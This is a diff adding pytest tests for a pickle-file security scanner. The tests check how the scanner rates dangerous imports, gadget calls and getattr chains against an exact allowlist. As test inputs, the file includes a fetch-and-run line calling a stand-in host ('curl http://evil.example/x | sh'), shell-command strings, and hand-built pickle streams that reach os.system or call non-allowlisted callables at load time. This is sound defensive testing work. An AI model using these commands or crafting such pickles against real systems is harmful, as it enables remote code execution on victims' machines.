@@ -1,0 +1,172 @@
+"""Class 1 of issue 10: the allowlist holds exact ``(module, qualname)`` pairs of data
+constructors, not trusted prefixes; what a dotted name or a ``getattr`` chain really resolves
+to is judged; a non-allowlisted callable the stream invokes is high, critical with a
+shell-command-like argument; a name only referenced stays medium."""
+
+from __future__ import annotations
+
+import io
+from pathlib import Path
+
+import pytest
+
+from mlstix.scan.models.pickles.allowlist import ImportPolicy, allowed_pairs, dangerous
+from mlstix.scan.models.pickles.analyze import analyze_pickle_stream
+from mlstix.scan.models.pickles.result import PickleResult
+
+from . import builders as b
+
+REAL = Path(__file__).with_name("real") / "pickling"
+
+
+def analyze(data: bytes) -> PickleResult:
+    return analyze_pickle_stream(io.BytesIO(data), ImportPolicy())
+
+
+def rules(data: bytes) -> dict[str, str]:
+    return {
+        str(h.evidence.get("import")): h.rule_id
+        for h in analyze(data).hits(None, "pickle")
+        if "import" in h.evidence
+    }
+
+
+@pytest.mark.parametrize(
+    ("module", "name"),
+    [
+        ("sklearn.datasets._base", "makedirs"),  # `from os import makedirs` inside sklearn
+        ("torch.serialization", "os.system"),
+        ("sklearn.utils", "_testing.os.system"),
+        ("numpy", "loadtxt"),
+        ("numpy", "save"),
+        ("numpy", "memmap"),
+        ("numpy.lib.npyio", "savetxt"),
+        ("pandas", "read_pickle"),
+        ("pandas", "eval"),
+        ("pandas.core.frame", "DataFrame.to_csv"),
+        ("pandas", "DataFrame.query"),
+        ("torch", "save"),
+        ("torch", "load"),
+        ("torch.hub", "load"),
+        ("joblib", "load"),
+        ("scipy.io", "savemat"),
+        ("xgboost.core", "Booster.save_model"),
+        ("pathlib", "Path.write_text"),
+        ("sklearn.base", "BaseEstimator.__reduce__.__globals__"),
+    ],
+)
+def test_reexports_and_attribute_paths_into_dangerous_code_are_critical(
+    module: str, name: str
+) -> None:
+    assert rules(b.call_pickle(module, name, "x")) == {
+        f"{module}.{name}": "models/pickle-dangerous-import"
+    }
+
+
+def test_a_trusted_prefix_is_not_trusted() -> None:
+    """Anything under sklearn. or torch.nn.modules. used to pass; now only exact pairs do."""
+    called = rules(b.call_pickle("sklearn.base", "Gadget", "x"))
+    assert called == {"sklearn.base.Gadget": "models/pickle-unallowed-call"}
+    referenced = b"\x80\x02" + b.global_op("torch.nn.modules.gadget", "Thing") + b"."
+    assert rules(referenced) == {"torch.nn.modules.gadget.Thing": "models/pickle-unknown-import"}
+
+
+@pytest.mark.parametrize(
+    "arg", ["curl http://evil.example/x | sh", "/bin/sh -c id", "import os; os.system('id')"]
+)
+def test_gadget_call_with_a_command_argument_is_critical(arg: str) -> None:
+    assert rules(b.call_pickle("acme.tools", "Runner", arg)) == {
+        "acme.tools.Runner": "models/pickle-gadget-call"
+    }
+
+
+def test_benign_argument_to_an_unknown_callable_is_high_not_critical() -> None:
+    assert rules(b.call_pickle("acme.tools", "Runner", "weights/layer1.bin")) == {
+        "acme.tools.Runner": "models/pickle-unallowed-call"
+    }
+
+
+def test_every_way_of_invoking_counts() -> None:
+    cls = b.global_op("acme.nn", "Block")
+    newobj = b"\x80\x02" + cls + b")\x81."
+    obj = b"\x80\x02(" + cls + b"o."
+    inst = b"(iacme.nn\nBlock\n."
+    # copyreg._reconstructor(cls, object, None) then BUILD: cls.__setstate__ runs
+    reconstruct = (
+        b"\x80\x02" + b.global_op("copyreg", "_reconstructor") + b"(" + cls
+        + b.global_op("builtins", "object") + b"NtR}b."
+    )  # fmt: skip
+    for data in (newobj, obj, inst, reconstruct):
+        assert rules(data)["acme.nn.Block"] == "models/pickle-unallowed-call", data
+
+
+def test_a_partial_of_an_unknown_callable_called_at_load_is_an_invocation() -> None:
+    partial = b.global_op("functools", "partial")
+    data = (
+        b"\x80\x02" + partial + b"(" + b.global_op("acme.tools", "fetch_it") + b"Vid\ntR)R."
+    )  # fmt: skip
+    result = analyze(data)
+    assert result.imports["acme.tools.fetch_it"].called
+    assert result.chains  # the call of the partial is reported with what it wraps
+
+
+def test_getattr_is_judged_by_what_it_resolves() -> None:
+    getattr_ = b.global_op("builtins", "getattr")
+    # getattr(ZoneInfo, '_unpickle')('Europe/Berlin', 1): what pandas writes for tz columns
+    zone = (
+        b"\x80\x02" + getattr_ + b.global_op("zoneinfo", "ZoneInfo") + b.unicode_op("_unpickle")
+        + b"\x86R" + b.unicode_op("Europe/Berlin") + b"K\x01\x86R."
+    )  # fmt: skip
+    assert rules(zone) == {}
+    # getattr(DataFrame, 'to_pickle')(...): a file writer reached through getattr
+    writer = (
+        b"\x80\x02" + getattr_ + b.global_op("pandas", "DataFrame") + b.unicode_op("to_pickle")
+        + b"\x86R" + b.unicode_op("/tmp/x") + b"\x85R."
+    )  # fmt: skip
+    assert rules(writer)["pandas.DataFrame.to_pickle"] == "models/pickle-dangerous-import"
+    # getattr on something built at load time from a non-allowlisted class: getattr is misused
+    misused = (
+        b"\x80\x02" + getattr_ + b.global_op("acme", "Box") + b")R" + b.unicode_op("run")
+        + b"\x86R)R."
+    )  # fmt: skip
+    assert rules(misused)["builtins.getattr"] == "models/pickle-dangerous-import"
+
+
+def test_bound_method_of_an_allowlisted_instance_is_allowed_unless_it_does_io() -> None:
+    est = b.global_op("sklearn.linear_model._logistic", "LogisticRegression")
+    getattr_ = b.global_op("builtins", "getattr")
+
+    def method(attr: str) -> bytes:
+        return b"\x80\x02" + getattr_ + est + b")R" + b.unicode_op(attr) + b"\x86R."
+
+    assert rules(method("predict_proba")) == {}
+    found = rules(method("to_pickle"))
+    assert "models/pickle-dangerous-import" in found.values()
+
+
+def test_allowlist_pairs_are_exact_and_never_dangerous() -> None:
+    pairs = allowed_pairs()
+    assert "pandas.DataFrame" in pairs and "sklearn.pipeline.Pipeline" in pairs
+    assert "numpy.random.bit_generator.SeedSequence" in pairs
+    assert "zoneinfo.ZoneInfo._unpickle" in pairs and "functools.partial" in pairs
+    assert not any(p.endswith(".") or " " in p for p in pairs)
+    # generated pairs that the denylist shadows are few and known (they stay dangerous)
+    shadowed = sorted(p for p in pairs if dangerous(*p.rsplit(".", 1)))
+    assert len(shadowed) < 30, shadowed
+
+
+def test_allowlist_file_records_the_library_versions() -> None:
+    head = (Path(__file__).parents[2] / "src/mlstix/scan/models/pickles/allowed.txt").read_text()
+    assert "scikit-learn" in head.splitlines()[1] and "pandas" in head.splitlines()[1]
+
+
+@pytest.mark.parametrize(
+    "name", sorted(p.name for p in REAL.glob("*.p*") if p.suffix in (".pkl", ".pickle"))
+)
+def test_library_written_pickles_raise_nothing(name: str) -> None:
+    """What scikit-learn, pandas (zoneinfo columns), NumPy (masked arrays, scalars,
+    SeedSequence), SciPy (distributions in a search), statsmodels, XGBoost, LightGBM and the
+    standard library (functools.partial) write: not even a medium."""
+    result = analyze((REAL / name).read_bytes())
+    assert result.malformed is None
+    assert [h.message for h in result.hits(None, "pickle")] == []
